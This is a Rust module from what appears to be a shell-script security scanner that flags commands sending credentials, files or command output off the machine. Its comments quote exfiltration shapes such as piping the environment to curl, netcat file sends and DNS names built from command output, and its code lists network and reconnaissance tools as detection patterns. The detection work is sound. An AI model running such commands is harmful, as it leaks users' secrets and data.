//! Data that leaves.

use super::credential::{any_secret, read_by, secret_in};
use super::{Found, View};
use crate::command::names::{is_lookup, is_network, is_secret};
use crate::command::paths::{credential_store, is_private_file, is_whole_home};
use crate::command::request;
use crate::command::rules::{CREDENTIAL_UPLOADED, DATA_IN_NAME_LOOKUP, DATA_UPLOADED, SECRET_IN_REQUEST};
use crate::command::script::{Command, Flow, Word};
use crate::severity::Severity;

pub(super) fn look(view: View<'_>, found: &mut Found<'_>) {
    let command = view.command;
    lookup(view, found);
    if let Some(what) = stored_elsewhere(command) {
        found.report(&CREDENTIAL_UPLOADED, format!("`{}` stores {what} elsewhere", command.name()));
    }
    pushed(command, found);
    served(command, found);
    if !is_network(command.name()) && !is_tls_client(command) {
        return;
    }
    if let Some(what) = read_by(command) {
        found.report(&CREDENTIAL_UPLOADED, format!("`{}` sends {what}", command.name()));
    }
    piped(view, found);
    embedded(view, found);
    files(command, found);
    secret_variables(command, found);
}

fn is_tls_client(command: &Command) -> bool {
    command.name() == "openssl" && command.has(&["s_client"])
}

/// Secrets among the files that a command copies to a store or another machine.
fn stored_elsewhere(command: &Command) -> Option<&'static str> {
    let words: Vec<&str> = command.operands().map(|word| word.text.as_str()).collect();
    let has = |verb: &str| words.iter().take(3).any(|word| *word == verb);
    let is_remote = |word: &str| {
        let (host, _) = word.split_once(':').unwrap_or(("", ""));
        !host.is_empty() && !host.contains('/') && !host.starts_with('.')
    };
    let to_remote = words.last().is_some_and(|word| is_remote(word));
    let sends = match command.name() {
        "gh" => (has("gist") && has("create")) || (has("release") && (has("upload") || has("create"))),
        "croc" | "wormhole" => has("send"),
        "az" => has("upload"),
        "aws" => to_remote || has("put-object"),
        "gsutil" | "gcloud" | "s3cmd" | "s5cmd" | "mc" | "rclone" | "scp" | "rsync" | "kubectl" => to_remote,
        "curl" => {
            let files = sent_files(command);
            return files.iter().any(|file| is_private_file(file)).then_some("a file with secrets");
        }
        _ => false,
    };
    let file = |word: &str| {
        let private = is_private_file(word).then_some("a file with secrets");
        private
            .or_else(|| is_whole_home(word).then_some("a whole home directory"))
            .or_else(|| credential_store(word))
    };
    if sends { words.iter().filter(|word| !is_remote(word)).find_map(|word| file(word)) } else { None }
}

/// The files that curl is told to send.
fn sent_files(command: &Command) -> Vec<String> {
    let data = command.values(SENDING_OPTIONS).into_iter();
    let attached = data.filter_map(|value| {
        let (before, file) = value.text.split_once('@')?;
        let file = file.split(';').next().unwrap_or(file);
        (before.is_empty() || before.ends_with('=')).then(|| file.to_owned())
    });
    attached.chain(command.values(&["-T", "--upload-file"]).into_iter().map(|value| value.text)).collect()
}

static SENDING_OPTIONS: &[&str] =
    &["-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "-F", "--form", "--json"];

/// `git push https://…`: not to a remote that somebody set up before.
fn pushed(command: &Command, found: &mut Found<'_>) {
    let mut words =
        command.operands().map(|word| word.text.as_str()).skip_while(|word| *word != "push").skip(1);
    if command.name() == "git" && words.next().is_some_and(|remote| remote.contains("://")) {
        found.report_as(&DATA_UPLOADED, Severity::Medium, "git pushes to an address given in the command");
    }
}

/// Programs that hand out the files of a directory.
fn served(command: &Command, found: &mut Found<'_>) {
    let python = command.name().starts_with("python")
        && command
            .values(&["-m"])
            .iter()
            .any(|module| matches!(module.text.as_str(), "http.server" | "SimpleHTTPServer" | "pyftpdlib"));
    let php =
        command.name() == "php" && command.values(&["-S"]).iter().any(|at| at.text.starts_with("0.0.0.0"));
    let bound = command.values(&["-b", "--bind"]);
    let local = bound.iter().any(|at| matches!(at.text.as_str(), "127.0.0.1" | "localhost" | "::1"));
    if (python && !local) || php {
        let what = format!("`{}` hands out the files of a directory to whoever connects", command.name());
        found.report_as(&DATA_UPLOADED, Severity::Medium, what);
    }
}

/// Programs that send whatever they are given on standard input.
fn sends_input(command: &Command) -> bool {
    match command.name() {
        "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl" | "mail" | "mailx" | "mutt"
        | "sendmail" | "websocat" => true,
        "curl" => {
            let values = command.values(&[
                "-d",
                "--data",
                "--data-binary",
                "--data-raw",
                "--data-urlencode",
                "-F",
                "--form",
                "--json",
            ]);
            values.iter().any(|value| value.text.ends_with("@-") || value.text.contains("@/dev/stdin"))
                || command
                    .values(&["-T", "--upload-file"])
                    .iter()
                    .any(|value| matches!(value.text.as_str(), "-" | "." | "/dev/stdin"))
        }
        "wget" => {
            let files = command.values(&["--post-file", "--body-file"]);
            files.iter().any(|value| matches!(value.text.as_str(), "-" | "/dev/stdin" | "/dev/fd/0"))
        }
        "http" | "https" | "xh" => true,
        "ssh" => !command.has_flag('n'),
        _ => false,
    }
}

/// `env | curl -d @- …`, `nc host 1 < file`
fn piped(view: View<'_>, found: &mut Found<'_>) {
    let View { script, command } = view;
    if !sends_input(command) {
        return;
    }
    if let Some(what) = any_secret(script.upstream(command)) {
        found.report(&CREDENTIAL_UPLOADED, format!("{what} is sent by `{}`", command.name()));
        return;
    }
    let raw = matches!(command.name(), "nc" | "ncat" | "netcat" | "telnet" | "socat");
    let file = command
        .redirects
        .iter()
        .any(|redirect| redirect.flow == Flow::In && redirect.target.text != "/dev/null");
    let reads_files = script.upstream(command).any(gathers);
    if raw && !is_local(command) && (file || reads_files) {
        found.report(&DATA_UPLOADED, format!("`{}` sends a file", command.name()));
    }
    let input = command.input.iter().filter_map(|input| secret_in(script, input)).next();
    if let Some(what) = input {
        found.report(&CREDENTIAL_UPLOADED, format!("{what} is sent by `{}`", command.name()));
    }
}

/// Whether a command prints the contents of files.
fn gathers(command: &Command) -> bool {
    let reads = matches!(
        command.name(),
        "cat"
            | "tar"
            | "zip"
            | "gzip"
            | "base64"
            | "xxd"
            | "od"
            | "dd"
            | "head"
            | "tail"
            | "mysqldump"
            | "pg_dump"
            | "find"
    );
    reads && (command.operands().next().is_some() || !command.redirects.is_empty())
}

/// Output of commands inside the arguments: `curl "https://x/?d=$(cat f)"`
fn embedded(view: View<'_>, found: &mut Found<'_>) {
    let View { script, command } = view;
    for word in command.arguments() {
        if word.inner.is_empty() {
            continue;
        }
        if let Some(what) = secret_in(script, word) {
            if is_authorization(word) {
                found.report_as(&SECRET_IN_REQUEST, Severity::Low, format!("{what} authorises a request"));
            } else {
                found.report(
                    &CREDENTIAL_UPLOADED,
                    format!("{what} is part of what `{}` sends", command.name()),
                );
            }
        } else if script.producing(word).any(|inner| gathers(inner) || is_about_machine(inner))
            && !is_local(command)
        {
            found.report(
                &DATA_UPLOADED,
                format!("the output of a command is part of what `{}` sends", command.name()),
            );
        }
        if names_host(word) {
            found.report(&DATA_IN_NAME_LOOKUP, "a host name is made from the output of a command");
        }
    }
}

/// Programs that say where one is. Attackers ask first.
fn is_about_machine(command: &Command) -> bool {
    matches!(command.name(), "whoami" | "id" | "ifconfig" | "w" | "last")
}

/// Whether the output of a command is a label of the host: `http://$(…).example/`
fn names_host(word: &Word) -> bool {
    let Some((_, rest)) = word.text.split_once("://") else { return false };
    let host = rest.split(['/', '?']).next().unwrap_or_default();
    has_computed_label(host)
}

fn has_computed_label(host: &str) -> bool {
    host.split_once("$__").is_some_and(|(_, after)| after.starts_with('.') && after.len() > 2)
}

/// `dig "$(…).example"`
fn lookup(view: View<'_>, found: &mut Found<'_>) {
    let View { script, command } = view;
    if !is_lookup(command.name()) {
        return;
    }
    let encodes = |before: &Command| {
        matches!(before.name(), "base64" | "base32" | "xxd" | "od" | "hexdump" | "basenc" | "md5sum")
    };
    let fed = script.upstream(command).any(encodes) || any_secret(script.upstream(command)).is_some();
    for word in command.arguments() {
        let from_data = !word.inner.is_empty() || (fed && !word.is_complete());
        let computed = from_data && (has_computed_label(&word.text) || has_label_of(word));
        let secret = word.unknown.iter().any(|name| is_secret(name));
        if computed || secret {
            found.report(
                &DATA_IN_NAME_LOOKUP,
                format!("`{}` looks up a name that is made from data", command.name()),
            );
        }
    }
}

/// Whether a variable that holds output of a command is a label of the name.
fn has_label_of(word: &Word) -> bool {
    word.text.split_once('$').is_some_and(|(_, after)| {
        after
            .trim_start_matches(|character: char| character.is_alphanumeric() || character == '_')
            .starts_with('.')
    })
}

/// Files named by options.
fn files(command: &Command, found: &mut Found<'_>) {
    let sent = match command.name() {
        "curl" => {
            let at_file = |value: &Word| {
                let file = value
                    .text
                    .split_once('@')
                    .map(|(before, file)| (before.is_empty() || before.ends_with('='), file));
                file.is_some_and(|(is_file, file)| is_file && !file.is_empty() && !file.starts_with('-'))
            };
            command.values(SENDING_OPTIONS).iter().any(at_file)
                || command.values(&["-T", "--upload-file"]).iter().any(|value| value.text != "-")
        }
        "wget" => !command.values(&["--post-file", "--body-file"]).is_empty(),
        "http" | "https" | "xh" => {
            command.operands().any(|word| word.text.contains('@') && !word.text.contains("://"))
        }
        _ => false,
    };
    if sent && !is_local(command) {
        found.report_as(&DATA_UPLOADED, Severity::Medium, format!("`{}` sends a file", command.name()));
    }
}

/// Whether the command only talks to this machine.
fn is_local(command: &Command) -> bool {
    let targets = request::targets(command);
    let local = |word: &Word| {
        let address = word.text.split_once("://").map_or(word.text.as_str(), |(_, rest)| rest);
        let host = address.split(['/', ':', '?']).next().unwrap_or_default();
        matches!(host, "localhost" | "127.0.0.1" | "0.0.0.0") || address.starts_with("[::1]")
    };
    !targets.is_empty() && targets.iter().all(local)
}

/// Whether a word is a header that authorises, which is what secrets are for.
fn is_authorization(word: &Word) -> bool {
    let lower = word.text.to_ascii_lowercase();
    [
        "authorization:",
        "private-token:",
        "x-api-key:",
        "x-auth-token:",
        "api-key:",
        "x-vault-token:",
        "job-token:",
    ]
    .iter()
    .any(|header| lower.starts_with(header))
}

/// `curl https://x/?t=$TOKEN`
fn secret_variables(command: &Command, found: &mut Found<'_>) {
    let user = command.values(&["-u", "--user", "--oauth2-bearer"]);
    for word in command.arguments() {
        let Some(name) = word.unknown.iter().find(|name| is_secret(name)) else { continue };
        if is_authorization(word) || user.iter().any(|value| word.text.ends_with(&value.text)) {
            continue;
        }
        found.report_as(
            &SECRET_IN_REQUEST,
            Severity::High,
            format!("`${name}` is part of what `{}` sends", command.name()),
        );
    }
}
